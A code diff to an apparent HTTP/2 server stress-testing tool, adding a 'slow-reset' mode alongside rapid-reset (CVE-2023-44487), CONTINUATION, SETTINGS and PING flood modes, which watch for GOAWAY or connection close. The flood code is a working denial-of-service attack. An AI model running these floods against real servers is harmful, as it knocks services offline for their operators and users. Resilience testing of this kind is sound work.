@@ -11,6 +11,8 @@ and whether the server closed the connection. Every wait is bounded by
 
 Modes (--count N frames or streams):
   rapid-reset   N x (HEADERS GET, RST_STREAM CANCEL)   CVE-2023-44487
+  slow-reset    the same, 2 ms apart: each stream is taken (and forwarded)
+                by the server before its reset arrives
   continuation  HEADERS without END_HEADERS, then N CONTINUATION frames
   settings      N x SETTINGS
   ping          N x PING
@@ -200,6 +202,22 @@ def run(args):
             return h.serialize() + RstStreamFrame(sid, error_code=CANCEL).serialize()
 
         flood(conn, unit, count, 20, deadline)
+    elif mode == "slow-reset":
+        for i in range(count):
+            if time.monotonic() >= deadline:
+                break
+            sid = 1 + 2 * i
+            h = HeadersFrame(sid, conn.request_block(), flags=["END_HEADERS", "END_STREAM"])
+            if not conn.send(h.serialize()):
+                break
+            time.sleep(0.002)
+            if not conn.send(RstStreamFrame(sid, error_code=CANCEL).serialize()):
+                break
+            conn.report["sent"] = i + 1
+            conn.pump(0)
+            if conn.report["goaway"] is not None or conn.report["closed"]:
+                break
+        conn.wait_close(deadline)
     elif mode == "continuation":
         first = HeadersFrame(1, conn.request_block(), flags=[]).serialize()
         conn.send(first)
